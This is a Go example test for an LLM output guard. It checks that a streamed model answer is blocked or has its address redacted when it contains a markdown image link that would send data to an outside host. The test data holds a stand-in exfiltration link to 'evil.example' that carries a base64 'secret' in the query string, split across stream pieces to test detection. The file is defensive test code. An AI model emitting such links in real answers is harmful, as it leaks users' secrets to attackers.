package exfil_test

import (
	"fmt"
	"net/http/httptest"
	"strings"

	"github.com/holdfast-ai/holdfast/guard"
	"github.com/holdfast-ai/holdfast/guard/detect/exfil"
	"github.com/holdfast-ai/holdfast/guard/guardtest"
)

// An answer that would carry data away is stopped, or, where the policy says so, loses the address alone.
func Example() {
	hosts, err := exfil.New("docs.example.com")
	if err != nil {
		fmt.Println(err)
		return
	}
	policy := guard.DefaultPolicy()
	policy.Output = map[string]guard.Mode{}
	for _, mode := range []guard.Mode{guard.ModeBlock, guard.ModeRedact} {
		for _, id := range exfil.IDs() {
			policy.Output[id] = mode
		}
		g, err := guard.New(policy, guard.WithScanner(hosts.Start, exfil.IDs()...))
		if err != nil {
			fmt.Println(err)
			return
		}
		engine := &guardtest.Upstream{Pieces: []string{"Done ![x](https://evil.", "example/?d=c2VjcmV0) and [more](https://docs.example.com/a)."}}
		r := httptest.NewRequest("POST", "/v1/chat/completions", strings.NewReader(guardtest.Chat("Hello!")))
		r.Header.Set("Content-Type", "application/json")
		w := httptest.NewRecorder()
		g.Handler(engine).ServeHTTP(w, r)
		answer, err := guardtest.Play(w.Body.String())
		if err != nil {
			fmt.Println(err)
			return
		}
		fmt.Println(mode, w.Code, answer.Text+answer.ErrorCode)
	}
	// Output:
	// block 400 content_filter
	// redact 200 Done ![x]([redacted]) and [more](https://docs.example.com/a).
}
